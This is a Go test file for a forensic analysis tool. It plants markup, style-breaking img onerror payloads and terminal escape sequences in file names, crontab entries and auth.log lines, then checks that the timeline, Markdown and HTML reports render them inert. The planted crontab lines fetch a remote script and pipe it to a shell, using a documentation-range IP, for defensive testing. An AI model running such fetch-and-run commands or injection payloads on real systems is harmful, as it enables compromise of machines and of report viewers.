package main

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/cordon-forensics/cordon/internal/testenv"
)

// Planted by the attacker: markup, a style breaker and terminal escapes,
// in file names, a crontab and log lines.
const (
	plantScript = "<script>document.title='PWNED'</script>"
	plantStyle  = "</style><img src=x onerror=\"document.title='PWNED'\">"
	plantTerm   = "\x1b]0;evil\x07\x1b[2J"
)

// TestHostileEvidenceThroughTheReport collects a disk image whose file
// names, crontab and logs an attacker wrote, analyzes it, and renders the
// report as HTML (in headless Chromium) and Markdown, and the timeline for
// a terminal: the planted text must show, literally, and do nothing.
func TestHostileEvidenceThroughTheReport(t *testing.T) {
	chromium := testenv.NeedTool(t, "chromium")
	dir := t.TempDir()
	root := filepath.Join(dir, "root")
	stamp := time.Now().Add(-time.Hour)
	write := func(rel, data string, mode os.FileMode) {
		t.Helper()
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), mode); err != nil {
			t.Fatal(err)
		}
		_ = os.Chtimes(p, stamp, stamp)
	}
	write("tmp/"+strings.ReplaceAll(plantScript, "/", "%")+".sh", "#!/bin/sh\n", 0o755)
	write("tmp/"+strings.ReplaceAll(plantStyle, "/", "%")+plantTerm, "x", 0o755)
	write("etc/cron.d/"+strings.ReplaceAll(plantScript, "/", "_"), "* * * * * root curl -s http://198.51.100.7/x | sh # "+plantStyle+plantTerm+"\n", 0o644)
	write("etc/crontab", "*/5 * * * * root wget -q -O- http://198.51.100.7/m.sh | bash "+plantScript+"\n", 0o644)
	write("var/log/auth.log", "Nov 22 10:00:00 web01 sshd[100]: Invalid user "+plantScript+plantTerm+" from 198.51.100.7 port 4242\n"+
		"Nov 22 10:00:01 web01 sshd[100]: Failed password for invalid user "+plantStyle+" from 198.51.100.7 port 4242 ssh2\n", 0o640)

	collect := build(t, dir, "github.com/cordon-forensics/cordon/cmd/cordon-collect")
	cordon := build(t, dir, "github.com/cordon-forensics/cordon/cmd/cordon")
	bundlePath := filepath.Join(dir, "image.cordon")
	cmd := exec.Command(collect, "-o", bundlePath, "--root", root, "--timeline-root", "/tmp", "--timeline-root", "/etc", "-q")
	if out, err := cmd.CombinedOutput(); err != nil && cmd.ProcessState.ExitCode() != 1 {
		t.Fatalf("cordon-collect: %v\n%s", err, out)
	}
	// An analyst's own rule (--rules) brings the crontab lines, planted
	// text included, into the findings and so into every report.
	rulesDir := filepath.Join(dir, "rules")
	if err := os.MkdirAll(rulesDir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(rulesDir, "cron.yaml"), []byte(`- id: LOCAL-CRON-001
  title: Every crontab line
  severity: info
  attack: {id: T1053.003, name: "Scheduled Task/Job: Cron"}
  why: to read them all in the report
  match:
    - {field: event.action, equals: crontab-entry}
`), 0o644); err != nil {
		t.Fatal(err)
	}
	caseDir := filepath.Join(dir, "case")
	if out, err := exec.Command(cordon, "analyze", bundlePath, "--case", caseDir).CombinedOutput(); err != nil {
		t.Fatalf("cordon analyze: %v\n%s", err, out)
	}

	// The terminal: no escape byte reaches it, the text shows escaped.
	for _, args := range [][]string{
		{"timeline", "--case", caseDir},
		{"search", "--case", caseDir, "file.path:*PWNED*"},
		{"findings", "--case", caseDir, "--rules", rulesDir},
	} {
		out, err := exec.Command(cordon, args...).Output()
		if err != nil {
			t.Fatalf("cordon %v: %v", args, err)
		}
		if bytes.ContainsAny(out, "\x1b\x07") {
			t.Errorf("cordon %s printed a raw escape byte", args[0])
		}
	}
	table, _ := exec.Command(cordon, "timeline", "--case", caseDir).Output()
	if !bytes.Contains(table, []byte("PWNED")) {
		t.Fatalf("the planted names are not in the timeline at all: the test proves nothing\n%.3000s", table)
	}

	// Markdown: the planted markup is inert outside code fences.
	md := filepath.Join(dir, "report.md")
	if out, err := exec.Command(cordon, "report", "--case", caseDir, "-o", md, "--rules", rulesDir).CombinedOutput(); err != nil {
		t.Fatalf("cordon report md: %v\n%s", err, out)
	}
	mdData, _ := os.ReadFile(md)
	if !strings.Contains(string(mdData), "LOCAL-CRON-001") || !strings.Contains(string(mdData), "&lt;script&gt;document") {
		t.Errorf("the planted crontab line is not in the Markdown report: the test proves nothing")
	}
	parts := strings.Split(string(mdData), "```")
	for i := 0; i < len(parts); i += 2 {
		if strings.Contains(parts[i], "<script") || strings.Contains(parts[i], "<img") {
			t.Errorf("live markup in the Markdown report")
		}
	}

	// HTML in Chromium.
	page := filepath.Join(dir, "report.html")
	if out, err := exec.Command(cordon, "report", "--case", caseDir, "-o", page, "--title", "IR "+plantScript, "--rules", rulesDir).CombinedOutput(); err != nil {
		t.Fatalf("cordon report html: %v\n%s", err, out)
	}
	html, _ := os.ReadFile(page)
	body := html[bytes.Index(html, []byte("</title>")):]
	for _, plant := range []string{"&lt;script&gt;document.title=&#39;PWNED&#39;&lt;/script&gt;", "&lt;/style&gt;&lt;img src=x onerror=", `\x1b]0;evil\x07`} {
		if !bytes.Contains(body, []byte(plant)) {
			t.Errorf("the planted %q is not shown escaped in the report's body", plant)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	c := exec.CommandContext(ctx, chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
		"--no-first-run", "--user-data-dir="+filepath.Join(dir, "profile"), "--enable-logging=stderr", "--v=0", "--dump-dom", "file://"+page)
	var dom, log bytes.Buffer
	c.Stdout, c.Stderr = &dom, &log
	if err := c.Run(); err != nil {
		t.Fatalf("chromium: %v\n%s", err, log.String())
	}
	if !strings.Contains(dom.String(), "<title>Cordon report: IR &lt;script&gt;") || strings.Contains(dom.String(), "PWNED</title>") {
		t.Errorf("the page title was changed by planted text:\n%.500s", dom.String())
	}
	if strings.Contains(dom.String(), "<img src=\"x\"") {
		t.Errorf("a planted element became live")
	}
	for _, l := range strings.Split(log.String(), "\n") {
		if strings.Contains(l, "Uncaught") || strings.Contains(l, "CONSOLE") || strings.Contains(l, "Content Security Policy") {
			t.Errorf("chromium console: %s", l)
		}
	}
}
